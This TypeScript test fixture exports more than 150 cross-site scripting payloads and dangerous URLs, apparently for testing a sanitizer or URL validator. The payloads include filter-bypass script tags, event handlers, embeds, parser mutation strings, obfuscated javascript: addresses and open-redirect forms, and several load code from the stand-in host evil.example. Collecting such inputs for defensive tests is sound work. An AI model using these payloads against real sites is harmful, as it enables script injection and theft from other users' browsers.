/** Attackers' texts and addresses meant to run in another user's browser (safety, T8): more than 150. */

const script = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)></script>
<script\x20type="text/javascript">alert(1);</script>
<script>alert(String.fromCharCode(49))</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
<script type="module">import("//evil.example/x.js")</script>
<script async defer src="https://evil.example/x.js"></script>
<script type="application/json">{"a":"</script><script>alert(1)</script>"}
<!--<script>alert(1)--></script>
<script>/*</script><svg/onload=alert(1)>*/
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
\u003cscript\u003ealert(1)\u003c/script\u003e
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
`;

const handlers = `
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"/>
<img/src/onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=x:x onerror=javascript:alert(1)>
<img srcset="x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=1 onerror&#61;alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button popovertarget=x onclick=alert(1)>x</button><p popover id=x onbeforetoggle=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>
<p onanimationstart=alert(1) style="animation:x">
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)></b>
<x onclick=alert(1) tabindex=1 onfocus=alert(1) id=x>#x
<a onclick=alert(1)>x</a>
<form onsubmit=alert(1)><button>x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<input type=image src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
onerror=alert(1)//
`;

const embeds = `
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe/onload=alert(1)>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=url value=javascript:alert(1)></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<applet code="javascript:alert(1)">
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<portal src="javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<base href="//evil.example/">
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<template shadowrootmode=open><script>alert(1)</script></template>
<style>@import "javascript:alert(1)";</style>
<style>body{background:url("javascript:alert(1)")}</style>
<div style="width:expression(alert(1))">
<div style="background:url(javascript:alert(1))">
<div style="behavior:url(#default#time2)" onbegin=alert(1)>
<p style="-moz-binding:url(//evil.example/x.xml#x)">
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<bgsound src="javascript:alert(1)">
<layer src="//evil.example/x.js"></layer>
<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
`;

const mutations = String.raw`
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)></style>
<select><style></select><img src=x onerror=alert(1)></style>
<title><a title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<p id="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">
<img alt="\`\`onerror=alert(1)//">
<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>
<table><a href="javascript:alert(1)"><tr><td>x
<plaintext><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
<%= alert(1) %>
[x](javascript:alert(1))
![x](x"onerror="alert(1))
`;

/** Control characters are written as escapes, to be visible here. */
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u0000javascript:alert(1)",
  "\u001fjavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\rscript:alert(1)",
  "java\u0000script:alert(1)",
  "java\u200bscript:alert(1)",
  "java\u00adscript:alert(1)",
  "\ufeffjavascript:alert(1)",
  "\u2028javascript:alert(1)",
  "javascript\t:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "javascript&#0000058alert(1)",
  "&#106;&#97;&#118;&#97;script:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "javascript%3Aalert(1)",
  "%6aavascript:alert(1)",
  "ｊavascript:alert(1)",
  "javaſcript:alert(1)",
  "javascript：alert(1)",
  "javascript://https://example.com/%0aalert(1)",
  "javascript:/*https://example.com*/alert(1)",
  "javascript:https://example.com",
  "https:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "jar:javascript:alert(1)!/",
  "vbscript:msgbox(1)",
  "livescript:alert(1)",
  "mocha:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "DATA:text/html,alert(1)",
  "data:,alert(1)",
  "blob:https://example.com/1",
  "filesystem:https://example.com/temporary/x",
  "file:///etc/passwd",
  "ftp://evil.example/x",
  "sms:+9771",
  "intent://x#Intent;scheme=https;end",
  "about:blank",
  "chrome://settings",
  "ws://evil.example",
  "urn:x",
  "//evil.example",
  "///evil.example",
  "////evil.example",
  "\\\\evil.example",
  "/\\evil.example",
  "\\/evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  "/ /evil.example",
  "/./\\evil.example",
  "/.//evil.example",
  "/..//evil.example",
  "/a/../../..//evil.example",
  "/%09//evil.example",
  "／／evil.example",
  "/／evil.example\\x",
  "https:evil.example",
  "https:/evil.example",
  "https:///evil.example",
  "http:\\\\evil.example",
  "https://example.com@evil.example",
  "https://user:pass@evil.example/",
  "https://evil.example\\@example.com",
  "https://",
  "http://[::1",
  "https://exa mple.com",
  'https://example.com/"onmouseover="alert(1)',
  "https://example.com/'><svg/onload=alert(1)>",
  "mailto:a@example.com%0d%0aBcc:b@example.com",
  "mailto:javascript:alert(1)",
  "mailto:",
  "tel:javascript:alert(1)",
  "tel:+1;phone-context=javascript:alert(1)",
  '#"><script>alert(1)</script>',
  "?x=javascript:alert(1)",
  "relative/path",
  "../up",
];

const linesOf = (block: string) => block.split("\n").filter(Boolean);

export const badAddresses = addresses;
export const xssPayloads = [script, handlers, embeds, mutations].flatMap(linesOf).concat(addresses);
